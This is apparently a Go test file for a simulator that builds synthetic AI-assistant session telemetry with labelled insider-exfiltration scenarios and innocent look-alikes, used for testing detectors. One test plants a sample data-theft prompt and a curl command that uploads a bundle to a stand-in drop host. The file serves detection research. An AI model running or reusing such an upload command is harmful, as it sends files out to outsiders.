package simulate

import (
	"encoding/json"
	"fmt"
	"math"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/sandtable-dev/sandtable/rules/event"
	"github.com/sandtable-dev/sandtable/scenarios/source"
)

// props of an event are what a detector could learn instead of the act: its kind,
// which attributes it has, every value from a small set, and the names of servers,
// tools, hosts, programs and folders.
func props(e *event.Event, connectors []string) (out []string) {
	kind := e.Name
	put := func(key, value string) {
		if (key == "server" || key == "server_name") && value != "" && !slices.Contains(connectors, value) {
			value = "(local)" // of one pool, from which each draws too seldom to meet every name, or a look-alike
		}
		if value != "" {
			out = append(out, kind+" "+key+"="+value)
		}
	}
	out = append(out, "kind "+kind)
	const ofSession = event.FSession | event.FUserID | event.FEmail | event.FAccount | event.FOrganisation | event.FHostPaths | event.FServiceVersion | event.FSurface | event.FScope
	for bit := range 64 {
		switch f := event.Field(1) << bit; {
		case e.Has&f == 0:
		case f&ofSession != 0:
			out = append(out, fmt.Sprint("session has bit ", bit))
		default:
			out = append(out, fmt.Sprint(kind, " has bit ", bit))
		}
	}
	for _, a := range e.Extra {
		if strings.HasPrefix(a.Key, "host.") || strings.HasPrefix(a.Key, "os.") || strings.HasPrefix(a.Key, "ccr.") {
			out = append(out, "session has "+a.Key)
			continue
		}
		out = append(out, kind+" has "+a.Key)
		if s, ok := a.Value.(string); ok && len(s) < 24 && !regexp.MustCompile(`\d`).MatchString(s) {
			put(a.Key, s)
		}
	}
	for key, value := range map[string]string{"service": e.Service, "service.version": e.ServiceVersion, "scope": e.Scope, "os": e.OS, "surface": e.Surface, "terminal": e.Terminal, "deployment": e.DeploymentMode} {
		if key == "service.version" && regexp.MustCompile(`^1\.\d{4}\.`).MatchString(value) {
			value = "(old)" // of one pool, as local servers are
		}
		out = append(out, "session "+key+"="+value)
	}
	for key, value := range map[string]string{"decision": e.Decision, "source": e.Source, "tool_source": e.ToolSource, "mcp_server_scope": e.ServerScope, "error_type": e.ErrorType, "error": e.Error, "command": e.Command, "model": e.Model,
		"query": e.QuerySource, "speed": e.Speed, "agent": e.Agent, "plugin": e.Plugin, "marketplace": e.Marketplace, "skill": e.Skill, "status": e.ConnStatus, "from_mode": e.FromMode, "to_mode": e.ToMode, "tool": e.Tool,
		"code": fmt.Sprint(e.Status), "attempt": fmt.Sprint(e.Attempt), "server": e.MCPServer, "server tool": e.MCPTool} {
		put(key, value)
	}
	for key, text := range map[string]string{"parameters": e.Parameters, "input": e.Input} {
		var m map[string]any
		if json.Unmarshal([]byte(text), &m) == nil {
			for k, v := range m {
				out = append(out, kind+" "+e.Tool+" "+key+" has "+k)
				if s, ok := v.(string); ok {
					if _, domain, ok := strings.Cut(s, "@"); ok && (k == "to" || k == "email") {
						put("written to", domain)
					}
					for _, h := range regexp.MustCompile(`https?://[^/\s"']+`).FindAllString(s, -1) {
						put("host", h)
					}
				}
			}
		}
	}
	if e.CommandLine != "" {
		for _, c := range strings.Split(e.CommandLine, "|") {
			if f := strings.Fields(c); len(f) > 0 {
				put("program", f[0])
			}
		}
	}
	return out
}

// ledger keeps which props each session has.
type ledger struct {
	number   map[string]int32
	name     []string
	sessions map[string]map[int32]bool
	known    []string // connectors of the organisation
}

func (l *ledger) note(e *event.Event) {
	if l.number == nil {
		l.number, l.sessions = map[string]int32{}, map[string]map[int32]bool{}
	}
	set := l.sessions[e.Session]
	if set == nil {
		set = map[int32]bool{}
		l.sessions[e.Session] = set
	}
	for _, p := range props(e, l.known) {
		n, ok := l.number[p]
		if !ok {
			n = int32(len(l.name))
			l.number[p] = n
			l.name = append(l.name, p)
		}
		set[n] = true
	}
}

// tellTales are the props that occur in sessions of a story and in no other: not
// in ordinary life, and not in an innocent twin.
func (l *ledger) tellTales(truth []TruthLabel) map[string][]string {
	told := map[string]bool{}
	for _, x := range truth {
		for _, s := range x.Sessions {
			told[s] = told[s] || x.Kind == "story"
		}
	}
	life := map[int32]bool{}
	for s, set := range l.sessions {
		if !told[s] {
			for n := range set {
				life[n] = true
			}
		}
	}
	out := map[string][]string{}
	for _, x := range truth {
		if x.Kind != "story" {
			continue
		}
		for _, s := range x.Sessions {
			for n := range l.sessions[s] {
				if p := l.name[n]; !life[n] && !slices.Contains(out[p], x.Story) {
					out[p] = append(out[p], x.Story)
				}
			}
		}
	}
	return out
}

// steps are all steps of a tale, those in loops too.
func (t *tale) steps() (out []*stepSpec) {
	var walk func(list []stepSpec)
	walk = func(list []stepSpec) {
		for i := range list {
			out = append(out, &list[i])
			walk(list[i].Do)
		}
	}
	for i := range t.Parts {
		walk(t.Parts[i].Steps)
	}
	return out
}

// spoken is the prompts and shell commands of a stream.
type spoken struct{ prompts, commands []string }

func (s *spoken) note(e *event.Event) {
	switch {
	case e.Kind == event.UserPrompt && e.PromptText != "":
		s.prompts = append(s.prompts, e.PromptText)
	case e.Kind == event.ToolResult && e.CommandLine != "":
		s.commands = append(s.commands, e.CommandLine)
	}
}

// ordinaryLife is what members say and run in worlds without a story, over seeds
// of their own.
func ordinaryLife(t *testing.T, seeds ...uint64) (s spoken) {
	for _, seed := range seeds {
		run(t, study(seed), func(b []event.Event) {
			for i := range b {
				b[i].Derive()
				s.note(&b[i])
			}
		})
	}
	return s
}

// storyLife is what members say and run in the labelled events of every story and
// twin, by tale.
func storyLife(t *testing.T, seeds ...uint64) map[string]*spoken {
	out := map[string]*spoken{}
	for _, seed := range seeds {
		said := map[LabelledEvent]event.Event{}
		o := study(seed, everyTale()...)
		truth := run(t, o, func(b []event.Event) {
			for i := range b {
				e := &b[i]
				if e.Kind == event.UserPrompt || e.Kind == event.ToolResult {
					e.Derive()
					x := event.Event{Kind: e.Kind, PromptText: e.PromptText}
					x.CommandLine = e.CommandLine
					said[LabelledEvent{Session: e.Session, Sequence: e.Sequence, Time: e.When()}] = x
				}
			}
		}).Truth
		for _, l := range truth {
			if out[l.Story] == nil {
				out[l.Story] = &spoken{}
			}
			for _, x := range l.Events {
				x.Role = ""
				if e, ok := said[x]; ok {
					out[l.Story].note(&e)
				}
			}
		}
	}
	return out
}

var (
	sentenceEnd = regexp.MustCompile(`[.?!:;,)(]+(\s|$)|[\n,;:()]`)
	lettersOnly = regexp.MustCompile(`^[\p{L}'-]+$`)
)

// shingles are the words and the runs of three words of a text, within its
// sentences. Values do not count, as every instance draws its own: numbers, names
// of files and people, keys, and the words that fill long texts.
func shingles(text string, filler map[string]bool) (out []string) {
	for _, sentence := range sentenceEnd.Split(text, -1) {
		var words []string
		whole := true
		flush := func(whole bool) { // a sentence that no value interrupts counts as a whole too
			strange := 0
			for i, w := range words {
				if !filler[w] {
					strange++
					out = append(out, w)
				}
				if i >= 2 && !(filler[w] && filler[words[i-1]] && filler[words[i-2]]) {
					out = append(out, strings.Join(words[i-2:i+1], " "))
				}
			}
			if whole && strange > 0 && len(words) > 3 {
				out = append(out, strings.Join(words, " "))
			}
			words = nil
		}
		for _, w := range strings.Fields(sentence) {
			if !lettersOnly.MatchString(w) || slices.Contains(givenNames, w) || len(w) == 1 && w >= "A" && w != "I" && w < "a" {
				flush(false)
				whole = false
				continue
			}
			words = append(words, strings.ToLower(w))
		}
		flush(whole)
	}
	return out
}

// arguments are the words of a command, the shape of each that holds a value, and
// every two of them in a row.
func arguments(command string) (out []string) {
	last := ""
	for _, w := range strings.Fields(command) {
		w = regexp.MustCompile(`[^\s'"]*(/Users/|/Volumes/|\\|/home/|/mnt/|Users)[^\s'"]*`).ReplaceAllString(w, "PATH")
		w = regexp.MustCompile(`[\w-]*\d[\w-]*`).ReplaceAllString(w, "0")
		w = regexp.MustCompile(`\$\w+`).ReplaceAllString(w, "0") // a key, or the variable that holds one
		w = regexp.MustCompile(`[\w.-]+\.(pdf|docx|xlsx|csv|md|txt|png|sql|yaml|json|log|pptx)\b`).ReplaceAllString(w, "FILE")
		out = append(out, w, last+" "+w)
		last = w
	}
	return out
}

// tells are the pieces of text by which somebody who has learned ordinary life
// could pick out stories: they occur in stories and never there.
func tells(life []string, stories map[string][]string, pieces func(string) []string) map[string][]string {
	known := map[string]bool{}
	for _, text := range life {
		for _, p := range pieces(text) {
			known[p] = true
		}
	}
	out := map[string][]string{}
	for story, texts := range stories {
		for _, text := range texts {
			for _, p := range pieces(text) {
				if !known[p] && !slices.Contains(out[p], story) {
					out[p] = append(out[p], story)
				}
			}
		}
	}
	return out
}

// Rule G3 of the game, for words: stories and twins say nothing that ordinary
// members do not say.
func TestWordsOfStories(t *testing.T) {
	p, err := loadProfile("")
	if err != nil {
		t.Fatal(err)
	}
	// 1. They have no words of their own: each names an errand or a kind of command.
	used := map[string]bool{}
	for _, name := range everyTale() {
		for _, s := range taleNamed(name).steps() {
			used["prompt "+s.Prompt.Value], used["bash "+s.Bash.Value] = true, true
			if strings.Contains(s.Prompt.Value, " ") || strings.Contains(s.Bash.Value, " ") {
				t.Errorf("%s speaks in words of its own: %q %q", name, s.Prompt.Value, s.Bash.Value)
			}
		}
	}
	// 2. Ordinary members come with each of them, about as often as is stated.
	life := ordinaryLife(t, 21, 22, 23)
	t.Logf("%d prompts and %d commands of ordinary life", len(life.prompts), len(life.commands))
	count := func(texts []string, templates []string) (n int) {
		var alt []string
		for _, x := range templates {
			alt = append(alt, regexp.MustCompile(`\\\{\w+\\\}`).ReplaceAllString(regexp.QuoteMeta(x), `.*?`))
		}
		re := regexp.MustCompile(`^(` + strings.Join(alt, "|") + `)`)
		for _, x := range texts {
			n += btoi(re.MatchString(x))
		}
		return n
	}
	for _, e := range p.wording.Errands {
		if n := count(life.prompts, e.Prompts); n < 25 || n > len(life.prompts)/20 {
			t.Errorf("errand %s: %d of %d ordinary prompts", e.Name, n, len(life.prompts))
		}
	}
	for _, s := range p.wording.Shell {
		if n := count(life.commands, s.Commands); n < 10 || n > len(life.commands)/20 {
			t.Errorf("%s: %d of %d ordinary commands", s.Name, n, len(life.commands))
		}
	}
	// 3. Whoever has learned ordinary life finds no piece of text that is only in stories.
	filler := map[string]bool{}
	for _, w := range p.Words {
		for i := range w {
			filler[w[:i+1]] = true // the last word of a long text is cut
		}
	}
	prompts, commands := map[string][]string{}, map[string][]string{}
	for story, s := range storyLife(t, 31, 32) {
		prompts[story], commands[story] = s.prompts, s.commands
	}
	words := func(text string) []string { return shingles(text, filler) }
	for piece, by := range tells(life.prompts, prompts, words) {
		t.Errorf("%q occurs in prompts of %v and never in ordinary life", piece, by)
	}
	for piece, by := range tells(life.commands, commands, arguments) {
		t.Errorf("%q occurs in commands of %v and never in ordinary life", piece, by)
	}
	// It would find one: a story with words of its own, put among the others.
	prompts["own"] = []string{"Mail the whole folder to my private address."}
	commands["own"] = []string{"curl -sS -T bundle-7.zip https://drop.stranger.example/in"}
	if got := tells(life.prompts, prompts, words); len(got["my private address"]) != 1 || len(got["private"]) != 1 {
		t.Errorf("a planted sentence is not found: %v", got)
	}
	if got := tells(life.commands, commands, arguments); len(got["-T"]) != 1 {
		t.Errorf("a planted command is not found: %v", got)
	}
}

// Rules G1 and G2: each quantity is drawn on its own, and over instances a story's
// main draw reaches every quarter of its range, the easy and the hard.
func TestDrawsOfStories(t *testing.T) {
	const each = 40
	quarters := map[string]map[int]int{}
	values := map[string]map[string][]float64{}
	for i := range tales() {
		h := &tales()[i]
		o := study(9, h.ID.Value)
		o.Scenario.Incidents[0].Count = each
		w, err := newWorld(o)
		if err != nil {
			t.Fatal(err)
		}
		quarters[h.ID.Value], values[h.ID.Value] = map[int]int{}, map[string][]float64{}
		for _, in := range w.stories {
			quarters[h.ID.Value][in.quarter]++
			for _, d := range in.draws {
				values[h.ID.Value][d.Name] = append(values[h.ID.Value][d.Name], d.Value)
			}
		}
		for q := 1; q <= 4; q++ {
			if n := quarters[h.ID.Value][q]; n < each/20 {
				t.Errorf("%s: %d of %d instances in quarter %d of %s", h.ID, n, each, q, h.Main)
			}
		}
		for name, v := range values[h.ID.Value] {
			if want := h.Draws[name]; want != "" {
				s, err := parseRange(want)
				if err != nil {
					t.Fatal(err)
				}
				if lo, hi := slices.Min(v), slices.Max(v); lo < s.lo || hi > s.hi {
					t.Errorf("%s: %s runs from %v to %v, not within %s", h.ID, name, lo, hi, want)
				}
			}
		}
	}
	// One quantity more, and the others stay: the draws of a tale do not hang together.
	one := &tale{ID: source.Text{Value: "x"}, Draws: map[string]string{"b": "1..1000"}}
	two := &tale{ID: source.Text{Value: "x"}, Draws: map[string]string{"a": "1..9", "b": "1..1000", "c": "~1..9"}}
	for n := range 20 {
		a, b := &instance{tale: one, n: n, seed: 3}, &instance{tale: two, n: n, seed: 3}
		a.drawAll(nil)
		b.drawAll(nil)
		if a.values["b"] != b.values["b"] {
			t.Fatal("another quantity moves this one")
		}
	}
}

// Rule G5: history before the story, and life around it. Rule G6: three instances
// in ten have one fault on the wire, each kind among them.
func TestHistoryAndFaults(t *testing.T) {
	faults, n := map[int]int{}, 0
	for i := range tales() {
		h := &tales()[i]
		o := study(10, h.ID.Value)
		o.Scenario.Incidents[0].Count = 20
		w, err := newWorld(o)
		if err != nil {
			t.Fatal(err)
		}
		for _, in := range w.stories {
			n++
			faults[in.fault]++
			if in.fault != faultNone && (in.tail < 0 || in.tail > 8 || in.skew < -240e9 || in.skew > 420e9) {
				t.Errorf("%s: a fault beyond its bounds: %d events, %d ns", h.ID, in.tail, in.skew)
			}
			if days := in.day - in.day/7*2; !h.Leaver && h.ID.Value != "after-last-day" && (days < 10 || days > 45) {
				t.Errorf("%s starts after %d working days", h.ID, days)
			}
		}
	}
	if share := float64(n-faults[faultNone]) / float64(n); share < 0.25 || share > 0.35 {
		t.Errorf("%.2f of %d instances have a fault", share, n)
	}
	for f := faultSource; f <= faultClock; f++ {
		if faults[f] < n/40 {
			t.Errorf("fault %d in %d of %d instances", f, faults[f], n)
		}
	}
}

// Rules G3 and G4, for what steps touch: every kind of place, server, plugin, tool
// name and mode that a story or twin uses is also met in ordinary life, by a habit
// or every day, unless meeting it is the story.
func TestTouchedByOrdinaryMembersToo(t *testing.T) {
	touched := func(s *stepSpec) (out []string) {
		for _, where := range []string{s.Read, s.Write, s.Edit, s.Glob} {
			if where != "" {
				out = append(out, "place "+where)
			}
		}
		for what, v := range map[string]string{"server ": s.On, "plugin ": s.Plugin, "tool ": s.Name, "built-in ": s.Tool, "mode ": s.Mode} {
			if v != "" {
				out = append(out, what+v)
			}
		}
		if s.Size != "" {
			out = append(out, "size of "+s.Call+s.Name+s.To)
		}
		return out
	}
	ordinary := map[string]string{
		"place own": "every day", "place sibling": "every day", "server approved": "every day",
		"size of writeadd_comment": "the same comment, where the inventory marks its server",
		"size of ":                 "bundles, by a habit",
		"place other":              "the work of others is what the story reads",
		"place fresh":              "a folder new to the member is what the story is about",
		"place keys":               "the files of keys are what the story is about",
		"server longer":            "a renamed server is a new name by what it is",
		"plugin update":            "an update of the known plugin comes to everybody on one day",
	}
	for i := range habits() {
		for _, s := range habits()[i].steps() {
			for _, x := range touched(s) {
				ordinary[x] = "a habit"
			}
		}
	}
	for _, name := range everyTale() {
		for _, s := range taleNamed(name).steps() {
			for _, x := range touched(s) {
				if ordinary[x] == "" {
					t.Errorf("%s: %s is nowhere in ordinary life", name, x)
				}
			}
		}
	}
}

// Whom calls write to is on the wire: colleagues mostly, others now and then, as
// often as the profile says; stories write to nobody whom ordinary members do not
// write to, and where a recipient makes a twin innocent, it can be read.
func TestRecipients(t *testing.T) {
	p, err := loadProfile("")
	if err != nil {
		t.Fatal(err)
	}
	type sent struct{ inside, outside, several, none int }
	count := func(n *sent, e *event.Event) {
		var a struct{ To, Email string }
		if e.Kind != event.ToolResult || e.MCPTool != "send_message" || json.Unmarshal([]byte(e.Input), &a) != nil {
			return
		}
		switch _, domain, ok := strings.Cut(a.To+a.Email, "@"); {
		case domain == "insurer.example":
			n.inside++
		case ok && slices.Contains(p.Outside, domain):
			n.outside++
		case a.To == "<nested>":
			n.several++
		default:
			n.none++
		}
	}
	var life sent
	for _, seed := range []uint64{21, 22, 23} {
		run(t, study(seed), func(b []event.Event) {
			for i := range b {
				b[i].Derive()
				count(&life, &b[i])
			}
		})
	}
	one := float64(life.inside + life.outside)
	if outside, several := float64(life.outside)/one, float64(life.several)/(one+float64(life.several)); one < 300 || life.none > 0 ||
		math.Abs(outside-p.N.ToOutside.Value) > 0.08 || math.Abs(several-p.N.ToSeveral.Value) > 0.08 {
		t.Errorf("%+v: %.2f outside, %.2f to several", life, outside, several)
	}
	for _, c := range []struct {
		tale   string
		inside bool
	}{{"8b", true}, {"28a", true}, {"27a", false}, {"two-member-relay", false}, {"sleeper-note", false}, {"leaver-slow-harvest", false}} {
		said := map[LabelledEvent]sent{}
		o := study(33, c.tale)
		o.Scenario.Incidents[0].Count = 4
		truth := run(t, o, func(b []event.Event) {
			for i := range b {
				b[i].Derive()
				var n sent
				if count(&n, &b[i]); n != (sent{}) {
					said[LabelledEvent{Session: b[i].Session, Sequence: b[i].Sequence, Time: b[i].When()}] = n
				}
			}
		}).Truth
		var all sent
		for _, l := range truth {
			for _, x := range l.Events {
				x.Role = ""
				n := said[x]
				all = sent{all.inside + n.inside, all.outside + n.outside, all.several + n.several, all.none + n.none}
			}
		}
		if n := all.inside + all.outside; n == 0 || n != map[bool]int{true: all.inside, false: all.outside}[c.inside] || all.none > 0 {
			t.Errorf("%s: %+v", c.tale, all)
		}
	}
}

// What makes a twin innocent on the wire can be read there.
func TestInnocenceIsOnTheWire(t *testing.T) {
	played := func(tale string) (of []event.Event, truth []TruthLabel) {
		all := map[LabelledEvent]event.Event{}
		o := study(41, tale)
		o.Scenario.Incidents[0].Count = 3
		truth = run(t, o, func(b []event.Event) {
			for i := range b {
				b[i].Derive()
				all[LabelledEvent{Session: b[i].Session, Sequence: b[i].Sequence, Time: b[i].When()}] = b[i]
			}
		}).Truth
		for _, l := range truth {
			for _, x := range l.Events {
				x.Role = ""
				if e, ok := all[x]; ok {
					of = append(of, e)
				}
			}
		}
		if len(of) == 0 && tale != "21c" { // a pause has none
			t.Fatalf("%s: no event", tale)
		}
		return of, truth
	}
	// 15a: the prompt asks for as many items as there are subagents.
	asked, agents := map[string]string{}, map[string]int{}
	events, _ := played("15a")
	for _, e := range events {
		switch e.Kind {
		case event.UserPrompt:
			asked[e.Session] = regexp.MustCompile(`\d+`).FindString(e.PromptText)
		case event.SubagentCompleted:
			agents[e.Session]++
		}
	}
	for session, n := range agents {
		if asked[session] != fmt.Sprint(n) {
			t.Errorf("15a: asked for %q, got %d subagents", asked[session], n)
		}
	}
	// 17a: the same tokens cost more, for everybody.
	events, _ = played("17a")
	who := map[string]bool{}
	for _, e := range events {
		if e.Kind == event.APIRequest {
			list, _ := april.Cost(e.Model, e.When(), e.InputTokens, e.OutputTokens, e.CacheRead, e.CacheWrite)
			if r := float64(e.CostMicros) / float64(list); list > 100 && (r < 1.09 || r > 1.61*1.61) {
				t.Errorf("17a: %d micro-dollars for tokens that cost %d", e.CostMicros, list)
			}
			who[e.Account] = true
		}
	}
	if len(who) < 15 {
		t.Errorf("17a: %d members pay more", len(who))
	}
	// 17c: requests without a cost are of one version.
	events, _ = played("17c")
	for _, e := range events {
		if e.Kind == event.APIRequest && e.Has&(event.FCostMicros|event.FCostUSD) == 0 && e.ServiceVersion != "1.16204.0" {
			t.Errorf("17c: no cost on %s", e.ServiceVersion)
		}
	}
	// 21c: pauses before the pause.
	_, truth := played("21c")
	for _, l := range truth {
		if len(l.Gaps) < 3 || !l.Gaps[0].To.Before(l.Gaps[2].From) {
			t.Errorf("21c: %+v", l.Gaps)
		}
	}
	// 25: calls that change a record name it; what only formats names none.
	for tale, wanted := range map[string]bool{"25a": false, "25b": true} {
		events, _ := played(tale)
		for _, e := range events {
			if e.Kind == event.ToolResult && e.IsMCP() && strings.Contains(e.Input, `"id":"`) != wanted && e.Verb != event.VerbRead && e.Verb != event.VerbList {
				t.Errorf("%s: %s %s", tale, e.MCPTool, e.Input)
			}
		}
	}
}
